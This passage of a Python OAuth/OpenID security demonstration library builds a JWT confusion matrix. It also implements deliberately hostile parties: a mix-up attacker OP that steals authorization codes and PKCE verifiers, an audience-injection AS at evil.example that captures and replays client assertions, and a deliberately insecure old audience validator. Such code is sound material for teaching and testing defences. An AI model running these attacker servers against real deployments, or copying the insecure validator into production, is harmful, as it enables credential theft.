        return self.traces[(kind, validator)]

    def accepted(self) -> list[tuple[str, str]]:
        """The (token kind, validator) pairs that accepted."""
        return [pair for pair, trace in self.traces.items() if trace.ok]

    def rejection(self, kind: str, validator: str) -> Check | None:
        """The row that rejected ``kind`` at ``validator`` (None if it was accepted)."""
        return self.traces[(kind, validator)].failed

    def _cell(self, kind: str, validator: str) -> tuple[bool, str, str]:
        trace = self.traces[(kind, validator)]
        if trace.ok:
            return True, f"accepted ({len(trace)} checks)", ""
        failed = trace.failed
        assert failed is not None
        return False, f"{failed.section}: {failed.name}", failed.evidence

    def __str__(self) -> str:
        lines = [f"Cross-JWT confusion matrix ({self.key_note})" if self.key_note else "Cross-JWT confusion matrix"]
        for kind in self.tokens:
            lines.append(f"{kind}:")
            for validator in VALIDATORS:
                ok, text, evidence = self._cell(kind, validator)
                mark = "ACCEPTED" if ok else "rejected"
                lines.append(f"  {validator:<29} {mark}  {text}" + (f" ({evidence})" if evidence else ""))
        lines.append(f"{len(self.accepted())} of {len(self.traces)} accepted: {self.accepted()}")
        return "\n".join(lines)

    def _repr_pretty_(self, printer, cycle) -> None:
        printer.text(str(self))

    def _repr_html_(self) -> str:
        head = "".join(f"<th>{html.escape(v)}</th>" for v in VALIDATORS)
        rows = []
        for kind in self.tokens:
            cells = []
            for validator in VALIDATORS:
                ok, text, evidence = self._cell(kind, validator)
                colour, mark = (_PASS, "✓") if ok else (_FAIL, "✗")
                detail = f"<br><small><code>{html.escape(evidence)}</code></small>" if evidence else ""
                cells.append(f'<td style="background:{colour}"><strong>{mark}</strong> {html.escape(text)}{detail}</td>')
            rows.append(f"<tr><th>{html.escape(kind)}</th>{''.join(cells)}</tr>")
        caption = "Cross-JWT confusion: each token (row) fed to each validator (column)"
        if self.key_note:
            caption += f"; {self.key_note}"
        return (
            '<div class="jl-trace"><table class="jl-confusion" style="border-collapse:collapse;text-align:left">'
            f'<caption style="text-align:left;font-weight:bold">{html.escape(caption)}</caption>'
            f"<thead><tr><th>token \u2193 / validator \u2192</th>{head}</tr></thead><tbody>{''.join(rows)}</tbody></table>"
            f"<p><strong>{len(self.accepted())} of {len(self.traces)} accepted</strong></p></div>"
        )


def build_confusion_matrix(
    workdir: str | Path | None = None,
    *,
    clock: Clock | None = None,
    ids: IdSource | None = None,
    key: DemoKey | jwk.JWK | None = None,
    alg: str = "PS256",
) -> ConfusionMatrix:
    """Mint one valid token of each kind and feed each to every scenario validator.

    The worst case on purpose: **one key behind everything**. A single host, ``as.bank.example``,
    plays the directory, the authorization server and the OpenID Provider; its one JWK Set (``key``,
    default the AS's demo key, used with ``alg``) verifies the software statement, the registration
    request (the statement's ``software_jwks_endpoint`` points at that same set), the access token and
    the ID token; the DPoP proof (RFC 9449 §4.2) carries that same public key in its ``jwk`` header, and
    the client assertion (RFC 7523 §2.2) is signed with it as the client's registered key. Every issuer
    name that can be the same is the same. So no signature and almost no
    ``iss`` check can tell the tokens apart: only the explicit type (``typ``, RFC 8725 §3.11) and the
    claim rules of each profile (RFC 8725 §3.12) do.

    The parties are real (HTTP on 127.0.0.1, sqlite for the replay stores in ``workdir``, a temporary
    directory when None) and are stopped before this returns; the matrix keeps the traces."""
    clock = clock or FixedClock(DEMO_EPOCH)
    ids = ids or DemoIds(805)
    signing = as_jwk(key or demo_key("rfc7515-a2-rsa"))
    owned = tempfile.TemporaryDirectory() if workdir is None else None
    base = Path(owned.name if owned is not None else workdir)
    base.mkdir(parents=True, exist_ok=True)
    network = Network()
    auth = AuthorizationServer(network, clock=clock, ids=ids, db_path=base / "confusion-as.sqlite", key=signing, alg=alg)
    jwks_url = auth.server.url("/jwks")
    # The directory and the OP are the same host with the same key: their issuing code is reused, on a
    # network of their own that is never started; as.bank.example's real server publishes the key.
    offstage = Network()
    directory = Directory(offstage, host=auth.server.host, key=signing, alg=alg, clock=clock, ids=ids)
    op = OpenIDProvider(
        offstage, clock=clock, store_dir=base, host=auth.server.host, signing_keys={alg: signing}, access_token_alg=alg, ids=ids
    )
    rp = op.register(ClientRegistration(cast.CLIENT_ID, cast.REDIRECT_URIS[:1], id_token_signed_response_alg=alg))
    databases = [Database(base / "confusion-replay.sqlite"), Database(base / "confusion-nonces.sqlite")]
    try:
        network.start()
        directory.enroll(DEMO_SOFTWARE, signing, alg=alg)
        ssa = directory.issue_ssa(DEMO_SOFTWARE, software_jwks_endpoint=jwks_url)
        client = Client(DEMO_SOFTWARE, key=signing, alg=alg, clock=clock, ids=ids)
        request = client.registration_request(ssa, auth.issuer)
        api = cast.API
        access = auth.issue_access_token(sub=cast.USER_SUB, client_id=rp.client_id, audience=api, scope="accounts")
        nonce = ids.token(16)
        id_token = op.issue_id_token(rp.client_id, nonce=nonce)
        public = {k: v for k, v in signing.export_public(as_dict=True).items() if k in ("kty", "crv", "x", "y", "n", "e")}
        proof_claims = {"jti": ids.token(16), "htm": "GET", "htu": f"{api}/accounts", "iat": clock.now()}
        proof = sign_compact(proof_claims, signing, {"alg": alg, "typ": DPOP_TYPE, "jwk": public})
        assertion = sign_client_assertion(rp.client_id, signing, audience=auth.issuer, alg=alg, clock=clock, ids=ids)
        tokens = dict(zip(TOKEN_KINDS, (ssa, request, access, id_token, proof, assertion), strict=True))

        statements = SoftwareStatementValidator([TrustedDirectory(auth.issuer, jwks_url)], network, clock=clock)
        # The request is checked against the statement the AS accepted, as the registration endpoint does.
        accepted = statements.validate(ssa).result
        ssa_claims = accepted if isinstance(accepted, dict) else {}
        requests = RegistrationRequestValidator(auth.issuer, network, ReplayStore(databases[0], "confusion_jti"), clock=clock)
        access_validator = AccessTokenValidator(
            issuer=auth.issuer, audience=api, keys=JwksCache(network, auth.issuer, clock=clock), clock=clock
        )
        id_validator = IdTokenValidator(
            issuer=auth.issuer,
            client_id=rp.client_id,
            keys=load_jwks(network.get_json(jwks_url)),
            clock=clock,
            nonce_store=ReplayStore(databases[1], "confusion_nonces"),
            id_token_signed_response_alg=alg,
        )
        proofs = DPoPProofValidator(algorithms=(alg,), replay_store=ReplayStore(databases[0], "confusion_dpop_jti"), clock=clock)
        assertions = ClientAssertionValidator(
            issuer=auth.issuer,
            client_keys={rp.client_id: load_jwks(network.get_json(jwks_url))},
            replay_store=ReplayStore(databases[0], "confusion_assertion_jti"),
            clock=clock,
            algorithms=(alg,),
        )
        run: dict[str, Callable[[str], Trace]] = {
            "SoftwareStatementValidator": statements.validate,
            "RegistrationRequestValidator": lambda t: requests.validate(t, ssa_claims, ssa),
            "AccessTokenValidator": access_validator.validate,
            "IdTokenValidator": lambda t: id_validator.validate(t, nonce=nonce),
            "DPoPProofValidator": lambda t: proofs.validate([t], method="GET", url=f"{api}/accounts"),
            "ClientAssertionValidator": assertions.validate,
        }
        traces: dict[tuple[str, str], Trace] = {}
        for kind, token in tokens.items():
            for name in VALIDATORS:
                traces[(kind, name)] = run[name](token)
    finally:
        network.close()
        auth.close()
        op.stop()
        for db in databases:
            db.close()
        if owned is not None:
            owned.cleanup()
    note = f"one {alg} key, kid {signing['kid'][:12]}…, behind all {len(VALIDATORS)} validators"
    return ConfusionMatrix(tokens, traces, note)


# ------------------------------------------------------------------------------------------------
# Mix-up (RFC 9700 §4.4): an OP that sends the user on to an honest OP and keeps the code
# ------------------------------------------------------------------------------------------------
class MixUpOP(OpenIDProvider):
    """Deliberately hostile: the attacker's OP of RFC 9700 §4.4.1, over real HTTP.

    A client that uses several OPs starts a login here (the user picked Mallory's OP, or the
    attacker made the link). This OP's ``/authorize`` does not authenticate anyone: it redirects the
    browser to the honest OP's authorization endpoint with the same request, the client's
    ``client_id`` and ``redirect_uri`` *at the honest OP* substituted. The honest OP authenticates the
    user and sends its code to the client. A client that cannot tell which OP answered believes the
    code is this OP's and posts it, with the PKCE ``code_verifier``, to this OP's ``/token``, which
    keeps both in :attr:`stolen` (the attacker can now redeem them at the honest OP).
    """

    def __init__(
        self,
        network: Network,
        *,
        honest_authorization_endpoint: str,
        honest_client_id: str,
        honest_redirect_uri: str,
        **options: Any,
    ) -> None:
        options.setdefault("host", f"mixup.{cast.ATTACKER_HOST}")
        super().__init__(network, **options)
        self.honest_authorization_endpoint = honest_authorization_endpoint
        self.honest_client_id = honest_client_id
        self.honest_redirect_uri = honest_redirect_uri
        #: What the client posted to this OP's token endpoint: (code, code_verifier) pairs.
        self.stolen: list[tuple[str, str]] = []
        self.server.route("GET", f"{self.path}/authorize")(self._send_on)
        self.server.route("POST", f"{self.path}/token")(self._keep)

    def _send_on(self, req: Request) -> Response:
        q = {k: v[0] for k, v in req.query.items()}
        q.update(client_id=self.honest_client_id, redirect_uri=self.honest_redirect_uri)
        return Response(302, b"", {"Location": f"{self.honest_authorization_endpoint}?{urlencode(q)}"})

    def _keep(self, req: Request) -> Response:
        form = req.form()
        self.stolen.append((form.get("code", ""), form.get("code_verifier", "")))
        return json_response(400, {"error": "invalid_grant", "error_description": "thank you"})


# ------------------------------------------------------------------------------------------------
# Audience injection (2025): an AS that collects a client assertion addressed to another AS
# ------------------------------------------------------------------------------------------------
#: The 2025 finding (OpenID Foundation disclosure of 24 January 2025; the University of Stuttgart's
#: paper "Audience Injection Attacks", 2025) and the CVE numbers assigned to it.
AUDIENCE_INJECTION_CVES = ("CVE-2025-27370", "CVE-2025-27371")
#: Mallory's AS (the cast's attacker at evil.example).
EVIL_AS_HOST = "as.evil.example"


class OldAudienceRuleValidator(ClientAssertionValidator):
    """Deliberately insecure: the audience rule before RFC 10070, as many servers applied it.

    RFC 7523 §3 (3) asked only for "a value that identifies the authorization server as an intended
    audience" and said "the token endpoint URL of the authorization server MAY be used"; OIDC Core §9
    says "the Audience SHOULD be the URL of the Authorization Server's Token Endpoint". So an AS
    accepted any of its identities (``accepted_audiences``: its issuer, its token endpoint URL, ...)
    anywhere in ``aud``. Every other row is the real validator's. The fix, RFC 10070 §4, is
    :meth:`ClientAssertionValidator.check_audience` (the guard against CVE-2025-27370 and
    CVE-2025-27371)."""

    def __init__(self, *, accepted_audiences: Sequence[str], **options: Any) -> None:
        super().__init__(**options)
        self.accepted_audiences = tuple(accepted_audiences)

    def check_audience(self, trace: Trace, claims: Mapping[str, Any]) -> None:
        auds = audiences(claims)
        ok = auds is not None and any(a in self.accepted_audiences for a in auds)
        trace.check(
            "RFC 7523 §3 (3)",
            f"aud contains one of this AS's identities {list(self.accepted_audiences)} (the rule before RFC 10070)",
            ok,
            f"aud = {json.dumps(claims.get('aud'))[:120]}",
            InvalidAudience,
        )


@contextmanager
def old_audience_rule(op: OpenIDProvider) -> Iterator[OldAudienceRuleValidator]:
    """Deliberately insecure: run ``op``'s token endpoint with the audience rule before RFC 10070
    (its issuer *or* its token endpoint URL accepted), everything else unchanged; restored on exit."""
    real = op.client_assertion_validator
    naive = OldAudienceRuleValidator(
        accepted_audiences=(op.issuer, op.metadata()["token_endpoint"]),
        issuer=real.issuer,
        client_keys=real.client_keys,
        replay_store=real.replay_store,
        clock=real.clock,
        algorithms=real.algorithms,
        leeway=real.leeway,
        max_lifetime=real.max_lifetime,
    )
    op.client_assertion_validator = naive
    try:
        yield naive
    finally:
        op.client_assertion_validator = real


class AudienceInjectionAS:
    """Deliberately hostile: Mallory's authorization server, over real HTTP (the audience injection
    attack of 2025; CVE-2025-27370, CVE-2025-27371).

    Its metadata (RFC 8414 §2, served at ``/.well-known/oauth-authorization-server``, RFC 8414 §3)
    names its own issuer, which a client can check (RFC 8414 §3.3), and, as its ``token_endpoint``,
    the URL of the *honest* AS's token endpoint, which a client cannot check. Its pushed
    authorization request endpoint (RFC 9126 §2) asks for client authentication and keeps every
    ``client_assertion`` it is sent in :attr:`captured`. A client that takes ``aud`` from the
    ``token_endpoint`` it was given signs, for Mallory, an assertion addressed to the honest AS.
    """

    def __init__(self, network: Network, *, honest_token_endpoint: str, host: str = EVIL_AS_HOST) -> None:
        self.network = network
        self.server = LocalServer(host, network)
        self.issuer = self.server.url()
        self.honest_token_endpoint = honest_token_endpoint
        #: The client assertions sent to this AS, as received.
        self.captured: list[str] = []
        self.server.serve_json("/.well-known/oauth-authorization-server", self.metadata)
        self.server.route("POST", "/par")(self._par)

    def metadata(self) -> dict[str, Any]:
        return {
            "issuer": self.issuer,
            "authorization_endpoint": self.server.url("/authorize"),
            "token_endpoint": self.honest_token_endpoint,  # the injected audience
            "pushed_authorization_request_endpoint": self.server.url("/par"),
            "token_endpoint_auth_methods_supported": ["private_key_jwt"],
        }

    def _par(self, req: Request) -> Response:
        form = req.form()
        if "client_assertion" in form:
            self.captured.append(form["client_assertion"])
        return json_response(201, {"request_uri": "urn:ietf:params:oauth:request_uri:mallory", "expires_in": 60})

    def replay(self, assertion: str, *, scope: str = "accounts") -> tuple[int, dict[str, Any]]:
        """Present ``assertion`` at the honest AS's token endpoint as the client (the client
        credentials grant, RFC 6749 §4.4): the status and the JSON answer."""
        form = {"grant_type": "client_credentials", "scope": scope, **assertion_form(assertion)}
        resp = self.network.post(self.honest_token_endpoint, urlencode(form).encode("ascii"), "application/x-www-form-urlencoded")
        body = resp.json()
        return resp.status, body if isinstance(body, dict) else {}

    def start(self) -> AudienceInjectionAS:
        self.server.start()
        return self

    def stop(self) -> None:
        self.server.stop()


class AssertionClient:
    """A client that authenticates with ``private_key_jwt`` at any endpoint of an AS it discovered
    (RFC 8414 §3; its ``issuer`` checked, RFC 8414 §3.3), here at the pushed authorization request
    endpoint (RFC 9126 §2).

    ``audience_from`` says where ``aud`` comes from: ``"token_endpoint"`` is the old advice
    (deliberately insecure: OIDC Core §9 "SHOULD be the URL of the Authorization Server's Token
    Endpoint", a value the client cannot verify), ``"issuer"`` is RFC 10070 §4 (the issuer identifier it
    verified). The old-advice client sends no ``typ``, as clients did before RFC 10070; typing alone
    would not have stopped the attack (RFC 10070 §4: "strong typing alone does not prevent the
    attacks")."""

    def __init__(
        self,
        network: Network,
        client_id: str,
        key: DemoKey | jwk.JWK,
        *,
        alg: str = "PS256",
        clock: Clock,
        ids: IdSource,
        audience_from: str = "issuer",
    ) -> None:
        if audience_from not in ("issuer", "token_endpoint"):
            raise ValueError("audience_from is 'issuer' (RFC 10070 §4) or 'token_endpoint' (the old advice)")
        self.network, self.client_id, self.key, self.alg = network, client_id, key, alg
        self.clock, self.ids, self.audience_from = clock, ids, audience_from
        #: The assertions this client signed, in order.
        self.sent: list[str] = []

    def discover(self, issuer: str) -> dict[str, Any]:
        metadata = self.network.get_json(issuer + "/.well-known/oauth-authorization-server")
        if not isinstance(metadata, dict) or metadata.get("issuer") != issuer:
            raise FetchError(f"metadata issuer is not {issuer!r} (RFC 8414 §3.3)")
        return metadata

    def push_authorization_request(self, issuer: str, **params: str) -> int:
        """POST a pushed authorization request to the AS ``issuer``, authenticated with a fresh
        assertion; the status the AS answered."""
        metadata = self.discover(issuer)
        audience = metadata["issuer"] if self.audience_from == "issuer" else metadata["token_endpoint"]
        # A client of the old advice predates RFC 10070's explicit type too: no typ.
        header = {"typ": None} if self.audience_from == "token_endpoint" else None
        assertion = sign_client_assertion(
            self.client_id, self.key, audience=audience, alg=self.alg, clock=self.clock, ids=self.ids, header=header
        )
        self.sent.append(assertion)
        form = {"response_type": "code", "client_id": self.client_id, **params, **assertion_form(assertion)}
        resp = self.network.post(
            metadata["pushed_authorization_request_endpoint"],
            urlencode(form).encode("ascii"),
            "application/x-www-form-urlencoded",
        )
        return resp.status
